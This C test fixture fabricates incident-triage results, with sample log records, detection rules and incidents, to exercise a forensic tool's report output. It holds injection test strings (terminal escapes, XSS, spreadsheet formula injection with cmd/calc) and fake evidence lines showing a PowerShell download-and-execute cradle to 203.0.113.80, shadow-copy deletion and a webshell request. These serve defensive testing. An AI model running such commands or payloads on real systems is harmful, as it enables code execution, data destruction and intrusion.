/* See fake_test.h. All addresses and names are of the ranges for documentation. */
#include "report/fake_test.h"

#include <stdlib.h>
#include <string.h>

#include "base/base.h"
#include "base/civil.h"

#define SIGNS_MAX    4000
#define INCIDENTS    250
#define COVERAGES    120
#define SECOND       CIVIL_NS_PER_S
#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

struct triage_result {
    struct arena arena;
    bool hostile;
    size_t turn; /* of the hostile texts */
    struct triage_source sources[16];
    size_t source_count;
    struct triage_coverage coverages[COVERAGES];
    size_t coverage_count;
    struct triage_missing missing[8];
    size_t missing_count;
    struct rule rules[16];
    size_t rule_count;
    struct triage_sign signs[SIGNS_MAX];
    size_t sign_count;
    struct triage_incident incidents[INCIDENTS];
    size_t incident_count;
    struct triage_counts counts;
    struct activity activity;
};

struct triage_signs {
    const struct triage_result *result;
    size_t next;
};

/* --- triage/result.h --- */

void triage_result_free(struct triage_result *result)
{
    if (result == NULL)
        return;
    arena_free(&result->arena);
    free(result);
}

const struct triage_source *triage_sources(const struct triage_result *result, size_t *count)
{
    *count = result->source_count;
    return result->sources;
}

const struct triage_incident *triage_incidents(const struct triage_result *result, size_t *count)
{
    *count = result->incident_count;
    return result->incidents;
}

const struct triage_coverage *triage_coverages(const struct triage_result *result, size_t *count)
{
    *count = result->coverage_count;
    return result->coverages;
}

const struct triage_missing *triage_missing_logs(const struct triage_result *result, size_t *count)
{
    *count = result->missing_count;
    return result->missing;
}

const struct triage_counts *triage_counts(const struct triage_result *result)
{
    return &result->counts;
}

const struct activity *triage_activity(const struct triage_result *result)
{
    return &result->activity;
}

const struct rule *triage_rules(const struct triage_result *result, size_t *count)
{
    *count = result->rule_count;
    return result->rules;
}

enum result triage_signs_open(
    struct triage_result *result, struct triage_signs **signs, struct error *err)
{
    (void)err;
    *signs = malloc(sizeof(**signs));
    ASSERT(*signs != NULL);
    **signs = (struct triage_signs){.result = result};
    return RESULT_OK;
}

enum result triage_signs_next(
    struct triage_signs *signs, struct triage_sign *sign, struct error *err)
{
    (void)err;
    if (signs->next == signs->result->sign_count)
        return RESULT_END;
    *sign = signs->result->signs[signs->next++];
    return RESULT_OK;
}

void triage_signs_free(struct triage_signs *signs)
{
    free(signs);
}

/* --- texts --- */

static const slice attacks[] = {
    S_INIT("\x1b]0;owned\x07\x1b[2J\x1b[31mred"),
    S_INIT("<script>alert(1)</script>"),
    S_INIT("\"><img src=x onerror=alert(1)> ' onmouseover='x"),
    S_INIT("=HYPERLINK(\"http://192.0.2.1/\",\"click\")"),
    S_INIT("@SUM(1+1)*cmd|' /C calc'!A0"),
    S_INIT("+1, \"quoted\"\r\nnew row,=1+1"),
    S_INIT("\xe2\x80\xaegnp.exe\xe2\x80\xac \xe2\x80\x8bzero"),
    S_INIT("\xff\xfe\xc0\xaf cut \xe2\x82"),
    S_INIT("nul\0inside\tand\ttabs\\and\\backslashes"),
    S_INIT("</details></table>]]>--><!-- &amp; &#60; &lt;b"),
    S_INIT("javascript:alert(1) \xc2\x9b"
           "31m C1"),
    S_INIT("日本語の長い名前（全角）、〜を含むホスト"),
};

/* A text that comes from evidence: as given, or in its place the next attack. */
static slice evidence(struct triage_result *result, const char *text)
{
    slice given = slice_from_cstr(text);
    if (!result->hostile || given.len == 0)
        return given;
    size_t turn = result->turn++ % (COUNT(attacks) + 1);
    if (turn < COUNT(attacks))
        return attacks[turn];
    char *endless = arena_bytes(&result->arena, 600);
    memset(endless, 'A', 600);
    return slice_make(endless, 600);
}

static int64_t at(int day, int hour, int minute, int second)
{
    struct civil civil = {
        .year = 2026, .month = 11, .day = day, .hour = hour, .minute = minute, .second = second};
    int64_t time_ns = 0;
    ASSERT(civil_to_ns(&civil, &time_ns));
    return time_ns;
}

static uuid id_of(const char *kind, uint64_t number)
{
    struct buf buf;
    buf_init(&buf, 64);
    buf_append_cstr(&buf, kind);
    buf_append_u64(&buf, number);
    uuid id = uuid_from_content(buf_slice(&buf));
    buf_free(&buf);
    return id;
}

/* --- rules --- */

enum { SCANNER, GUESSING, GUESSED, SHELL, AUDIT, DOWNLOAD, SHADOWS, SUDO, BOUNCES, REFUSED, RULES };

static const struct {
    const char *id, *title, *title_ja, *attack[2];
    enum rule_level level;
    enum rule_kind kind;
    enum rule_vector vector;
} rule_rows[RULES] = {
    [SCANNER] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0001",
        "Web server probed by a vulnerability scanner", "脆弱性スキャナによるウェブサーバの探索",
        {"T1595.002", "TA0043"}, RULE_LOW, RULE_PRECURSOR, RULE_VECTOR_WEB},
    [GUESSING] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0002",
        "Many failed log-ins from an unfamiliar system",
        "見慣れないシステムからの多数のログイン失敗", {"T1110", "TA0006"}, RULE_HIGH,
        RULE_INDICATOR, RULE_VECTOR_ATTRITION},
    [GUESSED] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0003", "Log-in succeeded after many failures",
        "多数の失敗の後にログイン成功", {"T1078", "TA0001"}, RULE_HIGH, RULE_INDICATOR,
        RULE_VECTOR_ATTRITION},
    [SHELL] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0004", "Shell started by a web server",
        "ウェブサーバからシェルが起動", {"T1505.003", "TA0003"}, RULE_CRITICAL, RULE_INDICATOR,
        RULE_VECTOR_WEB},
    [AUDIT] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0005", "Audit configuration changed",
        "監査設定の変更", {"T1562.001", "TA0005"}, RULE_MEDIUM, RULE_INDICATOR,
        RULE_VECTOR_UNKNOWN},
    [DOWNLOAD] = {"85b0b087-eddf-4a2b-b033-d771fa2b9775",
        "PowerShell Download and Execution Cradles", "", {"T1059.001", "TA0002"}, RULE_HIGH,
        RULE_INDICATOR, RULE_VECTOR_UNKNOWN},
    [SHADOWS] = {"c947b146-0abc-4c87-9c64-b17e9d7274a2",
        "Shadow Copies Deletion Using Operating Systems Utilities", "", {"T1490", "TA0040"},
        RULE_CRITICAL, RULE_INDICATOR, RULE_VECTOR_UNKNOWN},
    [SUDO] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0008", "Command run as root through sudo",
        "sudo による root でのコマンド実行", {"T1548.003", "TA0004"}, RULE_INFORMATIONAL,
        RULE_INDICATOR, RULE_VECTOR_UNKNOWN},
    [BOUNCES] = {"6f1d0c1a-5a53-4a4e-9d0e-3a3b6d1c0009", "Burst of bounced mail",
        "配信エラーメールの急増", {"T1566", "TA0001"}, RULE_MEDIUM, RULE_INDICATOR,
        RULE_VECTOR_EMAIL},
    [REFUSED] = {"9a8b7c6d-0000-4000-8000-000000000010", "Rule With A Placeholder", "",
        {"T1078", "TA0001"}, RULE_MEDIUM, RULE_INDICATOR, RULE_VECTOR_UNKNOWN},
};

static void make_rules(struct triage_result *result)
{
    for (size_t i = 0; i < RULES; i++) {
        struct rule *rule = &result->rules[i];
        slice *attack = ARENA_ARRAY(&result->arena, slice, 2);
        slice *doubts = ARENA_ARRAY(&result->arena, slice, 2);
        doubts[0] = evidence(result, "Software installation scripts");
        doubts[1] = evidence(result, "Administrators");
        attack[0] = slice_from_cstr(rule_rows[i].attack[0]);
        attack[1] = slice_from_cstr(rule_rows[i].attack[1]);
        *rule = (struct rule){
            .id = slice_from_cstr(rule_rows[i].id),
            .title = slice_from_cstr(rule_rows[i].title),
            .title_ja = slice_from_cstr(rule_rows[i].title_ja),
            .file = S("rules/linux/example.yml"),
            .line = (uint32_t)(10 * i + 1),
            .shipped = rule_rows[i].title_ja[0] != '\0',
            .refused = i == REFUSED,
            .correlation = i == GUESSING,
            .level = rule_rows[i].level,
            .kind = rule_rows[i].kind,
            .vector = rule_rows[i].vector,
            .attack = attack,
            .attack_count = 2,
            .description = i == DOWNLOAD ? evidence(result,
                                               "Detects PowerShell download and execution cradles.")
                                         : S(""),
            .false_positives = doubts,
            .false_positive_count = i == DOWNLOAD ? 2 : 0,
        };
    }
    result->rules[REFUSED].reason_english = evidence(
        result, "line 14, column 9: placeholder %Admins% has no value; give --placeholders");
    result->rules[REFUSED].reason = result->rules[REFUSED].reason_english;
    result->rule_count = RULES;
    result->counts.rules_loaded = 3765;
    result->counts.rules_refused = 1;
}

/* --- signs --- */

struct told {
    int rule; /* -1: an alert */
    int64_t time_ns;
    const char *host, *user, *ip, *path;
    uint64_t number;
    uint64_t count;
    uint32_t incident;
    const char *field, *value, *raw;
};

static size_t add_entities(
    struct triage_result *result, const struct told *told, struct entity *list)
{
    size_t count = 0;
    if (told->host != NULL)
        list[count++] = (struct entity){ENTITY_HOST, evidence(result, told->host)};
    if (told->user != NULL)
        list[count++] = (struct entity){ENTITY_USER, evidence(result, told->user)};
    if (told->ip != NULL)
        list[count++] = (struct entity){ENTITY_IP, evidence(result, told->ip)};
    return count;
}

static void add_sign(struct triage_result *result, struct told told)
{
    ASSERT(result->sign_count < SIGNS_MAX);
    struct triage_sign *sign = &result->signs[result->sign_count];
    const struct rule *rule = told.rule < 0 ? NULL : &result->rules[told.rule];
    struct entity *entities = ARENA_ARRAY(&result->arena, struct entity, 3);
    struct triage_record *record = ARENA_NEW(&result->arena, struct triage_record);
    struct triage_field *fields = ARENA_ARRAY(&result->arena, struct triage_field, 3);
    *record = (struct triage_record){evidence(result, told.path), told.number};
    fields[0] = (struct triage_field){evidence(result, told.field), evidence(result, told.value)};
    fields[1] = (struct triage_field){S("tag"), evidence(result, "first")};
    fields[2] = (struct triage_field){S("tag"), evidence(result, "second")};
    *sign = (struct triage_sign){
        .id = id_of("sign", result->sign_count++),
        .source = rule == NULL        ? TRIAGE_FROM_ALERT
                  : rule->correlation ? TRIAGE_FROM_CORRELATION
                                      : TRIAGE_FROM_SIGMA,
        .rule = rule,
        .rule_id = rule == NULL ? evidence(result, "2019401") : rule->id,
        .title =
            rule == NULL ? evidence(result, "ET EXPLOIT MySQL heap overflow attempt") : rule->title,
        .kind = rule == NULL ? RULE_INDICATOR : rule->kind,
        .level = rule == NULL ? RULE_HIGH : rule->level,
        .vector = rule == NULL ? RULE_VECTOR_UNKNOWN : rule->vector,
        .time_ns = told.time_ns,
        .last_ns = told.time_ns,
        .count = told.count,
        .incident = told.incident,
        .records = record,
        .record_count = 1,
        .entities = entities,
        .entity_count = add_entities(result, &told, entities),
        .fields = fields,
        .field_count = 3,
        .raw = evidence(result, told.raw),
    };
    if (told.count > 1 && told.time_ns != CIVIL_TIME_NONE)
        sign->last_ns = told.time_ns + 90 * SECOND;
    result->counts.signs++;
    result->counts.precursors += sign->kind == RULE_PRECURSOR ? 1 : 0;
}

static int by_time(const void *left, const void *right)
{
    const struct triage_sign *a = left;
    const struct triage_sign *b = right;
    if (a->time_ns != b->time_ns)
        return a->time_ns < b->time_ns ? -1 : 1;
    return memcmp(a->id.bytes, b->id.bytes, sizeof(a->id.bytes));
}

/* --- incidents --- */

static bool holds(const struct entity *entities, size_t count, const struct entity *wanted)
{
    for (size_t i = 0; i < count; i++)
        if (entities[i].type == wanted->type && slice_equal(entities[i].value, wanted->value))
            return true;
    return false;
}

/* Entities, strongest signs and period of the incident from its signs; attack and vectors too. */
static void gather(struct triage_result *result, uint32_t index)
{
    struct triage_incident *incident = &result->incidents[index];
    struct entity *entities = ARENA_ARRAY(&result->arena, struct entity, 64);
    uuid *strongest = ARENA_ARRAY(&result->arena, uuid, TRIAGE_STRONGEST_MAX);
    slice *attack = ARENA_ARRAY(&result->arena, slice, 2 * RULES);
    bool used[RULES] = {false};
    incident->entities = entities;
    incident->strongest = strongest;
    incident->attack = attack;
    incident->first_ns = INT64_MAX;
    incident->last_ns = INT64_MIN;
    for (int level = RULE_CRITICAL; level >= RULE_INFORMATIONAL; level--) {
        for (size_t i = 0; i < result->sign_count; i++) {
            const struct triage_sign *sign = &result->signs[i];
            if (sign->incident != index || (int)sign->level != level)
                continue;
            incident->sign_count++;
            incident->first_ns =
                sign->time_ns < incident->first_ns ? sign->time_ns : incident->first_ns;
            incident->last_ns =
                sign->last_ns > incident->last_ns ? sign->last_ns : incident->last_ns;
            if (incident->strongest_count < TRIAGE_STRONGEST_MAX)
                strongest[incident->strongest_count++] = sign->id;
            for (size_t e = 0; e < sign->entity_count; e++)
                if (incident->entity_count < 64 &&
                    !holds(entities, incident->entity_count, &sign->entities[e]))
                    entities[incident->entity_count++] = sign->entities[e];
            if (sign->rule != NULL && !used[sign->rule - result->rules]) {
                used[sign->rule - result->rules] = true;
                attack[incident->attack_count++] = sign->rule->attack[0];
                attack[incident->attack_count++] = sign->rule->attack[1];
            }
        }
    }
}

/* One reason for each rule, of its first host. */
static void reason(struct triage_result *result, uint32_t index)
{
    struct triage_incident *incident = &result->incidents[index];
    struct triage_why *why = ARENA_ARRAY(&result->arena, struct triage_why, RULES);
    static const double weights[] = {0.5, 2, 5, 10, 20.25};
    incident->why = why;
    for (size_t i = 0; i < result->sign_count; i++) {
        const struct triage_sign *sign = &result->signs[i];
        size_t at_why = 0;
        if (sign->incident != index)
            continue;
        while (at_why < incident->why_count && why[at_why].rule != sign->rule)
            at_why++;
        if (at_why == incident->why_count) {
            incident->why_count++;
            why[at_why] = (struct triage_why){.title = sign->title,
                .rule = sign->rule,
                .host = sign->entity_count > 0 ? sign->entities[0].value : S(""),
                .level = sign->level,
                .weight = weights[sign->level]};
            incident->points += weights[sign->level];
        }
        why[at_why].count += sign->count;
    }
}

static void add_incident(struct triage_result *result, const char *title_en, const char *title,
    enum rule_level priority, enum rule_vector vector)
{
    uint32_t index = (uint32_t)result->incident_count++;
    enum rule_vector *vectors = ARENA_ARRAY(&result->arena, enum rule_vector, 2);
    struct triage_incident *incident = &result->incidents[index];
    vectors[0] = vector;
    vectors[1] = RULE_VECTOR_WEB;
    *incident = (struct triage_incident){
        .id = id_of("incident", index),
        .title = evidence(result, text_lang() == TEXT_LANG_JA ? title : title_en),
        .title_en = evidence(result, title_en),
        .priority = priority,
        .vectors = vectors,
        .vector_count = vector == RULE_VECTOR_ATTRITION ? 2 : 1,
    };
    gather(result, index);
    reason(result, index);
    incident->raised_ns = incident->first_ns + 30 * SECOND;
    uint64_t *signs = ARENA_ARRAY(&result->arena, uint64_t, incident->entity_count);
    for (size_t i = 0; i < incident->entity_count; i++)
        signs[i] = incident->entity_count - i;
    incident->entity_signs = signs;
    result->counts.incidents++;
}

/* --- what was read --- */

static void add_source(struct triage_result *result, const char *path, const char *format,
    uint64_t records, uint64_t undecoded, const char *note_en, const char *note)
{
    struct triage_source *source = &result->sources[result->source_count++];
    *source = (struct triage_source){
        .path = evidence(result, path),
        .sha256 = hash_sha256_of(slice_from_cstr(path)),
        .size = 97 * records + 4096,
        .format = slice_from_cstr(format),
        .records = records,
        .events = records - undecoded,
        .undecoded = undecoded,
        .first_ns = records > 0 ? at(19, 0, 0, 7) : CIVIL_TIME_NONE,
        .last_ns = records > 0 ? at(20, 4, 59, 30) : CIVIL_TIME_NONE,
        .note_en = evidence(result, note_en),
        .note = evidence(result, text_lang() == TEXT_LANG_JA ? note : note_en),
    };
    (void)slice_cut(source->path, '!', &source->file, &(slice){NULL, 0});
    if (records == 0)
        source->sha256 = (hash_sha256){{0}};
    result->counts.sources++;
    result->counts.bytes += source->size;
    result->counts.records += records;
    result->counts.events += records - undecoded;
    result->counts.undecoded += undecoded;
}

static void add_coverage(
    struct triage_result *result, const char *host, const char *channel, uint64_t events)
{
    struct triage_coverage *coverage = &result->coverages[result->coverage_count++];
    *coverage = (struct triage_coverage){evidence(result, host), evidence(result, channel), events,
        at(19, 0, 0, 7), at(20, 4, 59, 30)};
}

static void make_evidence(struct triage_result *result)
{
    add_source(result, "evidence/web-01/auth.log", "syslog", 18211, 0, "", "");
    result->sources[0].time_assumed = EVENT_TIME_ASSUMED_YEAR | EVENT_TIME_ASSUMED_ZONE;
    result->sources[0].year = 2026;
    add_source(result, "evidence/web-01/access.log.gz", "ncsa", 1204400, 3, "", "");
    add_source(result, "evidence/logs.zip!db-01/audit.log", "auditd", 40110, 0, "", "");
    add_source(result, "evidence/ws-042/Security.evtx", "evtx", 96120, 12,
        "chunk 7 at byte 462848 is damaged and was skipped",
        "バイト 462848 のチャンク 7 は破損しているため飛ばしました");
    add_source(result, "evidence/ws-042/memory.raw", "", 0, 0, "", "");
    result->sources[4].format = (slice){NULL, 0};
    add_source(result, "evidence/locked.7z", "", 0, 0,
        "encrypted; give its password with --password-file",
        "暗号化されています。--password-file でパスワードを指定してください");
    add_coverage(result, "", "ncsa.access", 1204397);
    add_coverage(result, "db-01", "auditd.log", 40110);
    add_coverage(result, "web-01", "system.auth", 18211);
    add_coverage(result, "ws-042", "Microsoft-Windows-PowerShell/Operational", 11020);
    add_coverage(result, "ws-042", "Security", 85088);
    result->missing[0] = (struct triage_missing){evidence(result, "db-01"), S("system.auth")};
    result->missing[1] = (struct triage_missing){
        evidence(result, "ws-042"), S("Microsoft-Windows-Sysmon/Operational")};
    result->missing_count = 2;
    result->counts.first_ns = at(19, 0, 0, 7);
    result->counts.last_ns = at(20, 4, 59, 30);
    for (int64_t i = 0; i < 29 * 60; i++)
        for (int64_t n = 0; n < 3 + i % 60 / 20 + (i > 1620 && i < 1700 ? 9 : 0); n++)
            activity_add(&result->activity, at(19, 0, 0, 7) + (i * 60 + n * 7) * SECOND);
}

#define NONE   TRIAGE_NO_INCIDENT
#define AUTH   "evidence/web-01/auth.log"
#define WEB    "evidence/web-01/access.log.gz"
#define AUDITD "evidence/logs.zip!db-01/audit.log"
#define EVTX   "evidence/ws-042/Security.evtx"

static void make_signs(struct triage_result *result)
{
    for (int i = 0; i < 9; i++)
        add_sign(result,
            (struct told){SCANNER, at(19, 22, 4 + i, 10), "web-01", NULL, "198.51.100.23", WEB,
                (uint64_t)(880 + 40 * i), 1, NONE, "http.request.path", "/cgi-bin/test.cgi",
                "198.51.100.23 - - [19/Nov/2026:22:04:10 +0000] \"GET /cgi-bin/test.cgi HTTP/1.1\" "
                "404 153 \"-\" "
                "\"Nikto/2.5.0\""});
    for (int i = 0; i < 3; i++)
        add_sign(result,
            (struct told){SUDO, at(19, 8 + i, 30, 2), "db-01", "alice", NULL, AUDITD,
                (uint64_t)(70 + i), 1, NONE, "process.command_line", "apt-get update",
                "type=USER_CMD msg=audit(1795076402.113:482): pid=811 uid=1000 auid=1000 ses=3 "
                "msg='cwd=\"/home/alice\" cmd=6170742D67657420757064617465 terminal=pts/0 "
                "res=success'"});
    add_sign(result, (struct told){BOUNCES, CIVIL_TIME_NONE, NULL, NULL, "192.0.2.25", AUTH, 4, 55,
                         NONE, "source.ip", "192.0.2.25",
                         "postfix/bounce[811]: 4T1: sender non-delivery notification"});
    add_sign(result, (struct told){GUESSING, at(20, 3, 4, 41), "web-01", "deploy", "203.0.113.7",
                         AUTH, 17002, 214, 0, "source.ip", "203.0.113.7",
                         "Nov 20 03:04:41 web-01 sshd[2211]: Failed password for deploy from "
                         "203.0.113.7 port 40122 ssh2"});
    add_sign(result, (struct told){GUESSED, at(20, 3, 12, 44), "web-01", "deploy", "203.0.113.7",
                         AUTH, 17216, 1, 0, "source.ip", "203.0.113.7",
                         "Nov 20 03:12:44 web-01 sshd[2260]: Accepted password for deploy from "
                         "203.0.113.7 port 41822 ssh2"});
    add_sign(result, (struct told){SHELL, at(20, 3, 15, 2), "web-01", "www-data", "203.0.113.7",
                         WEB, 1203114, 1, 0, "http.request.path", "/uploads/logo.php",
                         "203.0.113.7 - - [20/Nov/2026:03:15:02 +0000] \"POST "
                         "/uploads/logo.php?c=id HTTP/1.1\" 200 54"});
    add_sign(result, (struct told){-1, at(20, 3, 21, 9), "db-01", NULL, "203.0.113.7", AUDITD,
                         39004, 1, 0, "alert.signature", "ET EXPLOIT MySQL heap overflow attempt",
                         "{\"event_type\":\"alert\",\"alert\":{}}"});
    add_sign(result, (struct told){AUDIT, at(20, 3, 22, 31), "db-01", "deploy", NULL, AUDITD, 39120,
                         1, 0, "auditd.data.op", "set",
                         "type=CONFIG_CHANGE msg=audit(1795144951.882:901): op=set audit_enabled=0 "
                         "old=1 auid=1001 ses=9 res=1"});
    for (int i = 0; i < 30; i++)
        add_sign(result,
            (struct told){DOWNLOAD, at(20, 4, i, 5), "ws-042", "carol@corp", "203.0.113.80", EVTX,
                (uint64_t)(90210 + i), 1, 1, "ScriptBlockText",
                "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')",
                "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/"
                "Operational\",\"ScriptBlockText\":"
                "\"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')\"}"});
    add_sign(result,
        (struct told){SHADOWS, at(20, 4, 41, 58), "ws-042", "carol@corp", NULL, EVTX, 95877, 1, 1,
            "CommandLine", "vssadmin delete shadows /all /quiet",
            "{\"EventID\":4688,\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\"}"});
    add_sign(result,
        (struct told){AUDIT, at(19, 14, 0, 0), "ws-042", "carol@corp", NULL, EVTX, 41002, 1, 2,
            "EventID", "4719",
            "{\"EventID\":4719,\"SubcategoryGuid\":\"{0CCE922B-69AE-11D9-BED3-505054503030}\"}"});
    result->signs[result->sign_count - 1].recovered = true;
    result->signs[14].time_assumed = true;
    qsort(result->signs, result->sign_count, sizeof(result->signs[0]), by_time);
}

static void make_incidents(struct triage_result *result)
{
    add_incident(result, "Shell started by a web server, on web-01 and db-01",
        "ウェブサーバからシェルが起動（web-01、db-01）", RULE_CRITICAL, RULE_VECTOR_ATTRITION);
    add_incident(result, "Shadow Copies Deletion Using Operating Systems Utilities, on ws-042",
        "Shadow Copies Deletion Using Operating Systems Utilities（ws-042）", RULE_CRITICAL,
        RULE_VECTOR_UNKNOWN);
    add_incident(result, "Audit configuration changed, on ws-042", "監査設定の変更（ws-042）",
        RULE_MEDIUM, RULE_VECTOR_IMPROPER_USAGE);
}

static void make_quiet(struct triage_result *result)
{
    add_source(result, "samples/access.log", "ncsa", 4211, 0, "", "");
    add_coverage(result, "web-01", "ncsa.access", 4211);
    result->counts.first_ns = at(19, 0, 0, 7);
    result->counts.last_ns = at(20, 4, 59, 30);
    activity_add(&result->activity, at(19, 0, 0, 7));
    activity_add(&result->activity, at(20, 4, 59, 30));
    add_sign(
        result, (struct told){SCANNER, at(19, 22, 4, 10), "web-01", NULL, "198.51.100.23",
                    "samples/access.log", 880, 1, NONE, "http.request.path", "/cgi-bin/test.cgi",
                    "198.51.100.23 - - [19/Nov/2026:22:04:10 +0000] \"GET /cgi-bin/test.cgi "
                    "HTTP/1.1\" 404 153"});
}

static void make_many(struct triage_result *result)
{
    static char names[COVERAGES][16];
    make_evidence(result);
    for (size_t i = result->coverage_count; i < COVERAGES; i++) {
        struct buf name;
        buf_init_fixed(&name, names[i], sizeof(names[i]) - 1);
        buf_append_cstr(&name, "ws-");
        buf_append_padded(&name, i, 3);
        add_coverage(result, names[i], "Security", i);
    }
    for (uint32_t i = 0; i < INCIDENTS; i++)
        for (int n = 0; n < (i == 0 ? 900 : 4); n++)
            add_sign(
                result, (struct told){n % REFUSED, at(19, (int)i % 24, n % 60, (int)i % 60),
                            names[20 + (i + (uint32_t)n) % 90], "carol@corp", "203.0.113.80", EVTX,
                            (uint64_t)n + 1, 1, i, "CommandLine", "whoami", "{\"EventID\":4688}"});
    for (uint32_t i = 0; i < 400; i++)
        add_sign(result,
            (struct told){(int)i % REFUSED, at(19, 1, (int)i % 60, 0), names[20 + i % 90], NULL,
                NULL, EVTX, i, 1, NONE, "CommandLine", "whoami", "{\"EventID\":4688}"});
    qsort(result->signs, result->sign_count, sizeof(result->signs[0]), by_time);
    for (uint32_t i = 0; i < INCIDENTS; i++)
        add_incident(result, "One of many incidents", "多数のインシデントの一つ",
            i < 30 ? RULE_HIGH : RULE_LOW, RULE_VECTOR_OTHER);
    result->counts.interrupted = true;
    result->counts.dropped_fields = 7;
    result->counts.limited_expressions = 42;
    result->counts.evicted_windows = 12345;
    result->counts.unlinked_entities = 1;
}

struct triage_result *fake_result(const char *name)
{
    struct triage_result *result = calloc(1, sizeof(*result));
    ASSERT(result != NULL);
    slice wanted = slice_from_cstr(name);
    result->hostile = slice_equal(wanted, S("hostile"));
    result->counts.first_ns = result->counts.last_ns = CIVIL_TIME_NONE;
    make_rules(result);
    if (slice_equal(wanted, S("rich")) || result->hostile) {
        make_evidence(result);
        make_signs(result);
        make_incidents(result);
    } else if (slice_equal(wanted, S("quiet"))) {
        make_quiet(result);
    } else if (slice_equal(wanted, S("many"))) {
        make_many(result);
    } else {
        add_source(result, "empty", "", 0, 0, "is empty", "中身がありません");
    }
    return result;
}
